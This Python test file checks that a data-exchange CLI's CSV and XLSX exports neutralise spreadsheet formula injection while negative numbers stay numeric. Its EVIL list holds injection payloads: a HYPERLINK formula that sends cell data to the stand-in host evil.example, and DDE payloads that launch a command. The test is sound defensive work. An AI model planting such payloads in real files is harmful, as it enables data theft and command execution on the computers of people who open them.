"""Issue 18, exports safe to open: a provider's cells ``=HYPERLINK(...)``, ``+cmd|...``, ``@SUM(...)``
reach a consumer's spreadsheet as text, never as formulas; negative numbers stay numbers.

The attack goes through the CLI (``dataex extract --format csv|xlsx``); the files are opened with
the csv module and openpyxl, as a spreadsheet would read them."""

from __future__ import annotations

import csv
from pathlib import Path

import openpyxl
import pyarrow as pa
import pyarrow.csv as pacsv
from typer.testing import CliRunner

from dataex.cli.main import app as cli
from dataex.contracts.lifecycle import approve_contract, request_contract
from dataex.contracts.offers import create_offer
from dataex.delivery.tolerances import set_tolerances
from tests.conftest import Node, add

runner = CliRunner()
EVIL = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_extracts_carry_no_formula_and_keep_negative_numbers(sqlite_node: Node, tmp_path: Path) -> None:
    hospital = add(sqlite_node, "Ruijin Hospital")
    consumer = add(sqlite_node, "Ping An", kind="insurer", role="consumer")
    n = 60
    rows = {
        "patient_id": [f"P{i:04d}" for i in range(n)],
        "note": [EVIL[i % len(EVIL)] if i % 2 == 0 else f"visit {i}" for i in range(n)],
        "cost": [float(i * 3 - 50) + 0.25 for i in range(n)],  # negatives among them
        "delta": [i - 30 for i in range(n)],
    }
    source = tmp_path / "evil.csv"
    pacsv.write_csv(pa.table(rows), source)
    ex = sqlite_node.ex
    reg = ex.register(source, owner=hospital.party.id, title="Notes", license="proprietary", analyze=False)
    set_tolerances(ex, reg.dataset.id, {"cost": 1}, actor=hospital.party)
    offer = create_offer(
        ex,
        reg.dataset.id,
        actor=hospital.party,
        tier="L4",
        purposes=["research"],
        price=0,
        legal_basis="consent",
    )
    c = request_contract(ex, offer.id, actor=consumer.party, purpose="research")
    approve_contract(ex, c.id, actor=hospital.party)
    home = ["--home", str(sqlite_node.home), "--as", consumer.token]

    out_csv = tmp_path / "x.csv"
    r = runner.invoke(cli, ["extract", c.id, "--out", str(out_csv), "--format", "csv", *home])
    assert r.exit_code == 0, r.output
    with out_csv.open(newline="", encoding="utf-8") as f:
        table = list(csv.DictReader(f))
    assert len(table) == n
    for row in table:
        note = row["note"]
        assert note[:1] not in ("=", "+", "-", "@", "\t", "\r"), note
        if note.startswith("'"):
            assert note[1:] in EVIL
    assert sum(row["note"].startswith("'") for row in table) == n // 2
    assert sum(float(row["cost"]) < 0 for row in table) > 0  # numbers, not neutralized text
    assert all(not row["cost"].startswith("'") and not row["delta"].startswith("'") for row in table)

    out_xlsx = tmp_path / "x.xlsx"
    r = runner.invoke(cli, ["extract", c.id, "--out", str(out_xlsx), "--format", "xlsx", *home])
    assert r.exit_code == 0, r.output
    sheet = openpyxl.load_workbook(out_xlsx).active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert cells and all(cell.data_type != "f" for cell in cells), [
        c.value for c in cells if c.data_type == "f"
    ]
    header = [cell.value for cell in next(sheet.iter_rows(max_row=1))]
    notes = [row[header.index("note")] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert sorted(v for v in notes if v in EVIL) == sorted(EVIL[i % len(EVIL)] for i in range(0, n, 2))
    costs = [row[header.index("cost")] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert all(isinstance(v, float) for v in costs) and min(costs) < 0
    deltas = [row[header.index("delta")] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert all(isinstance(v, int) for v in deltas) and min(deltas) == -30
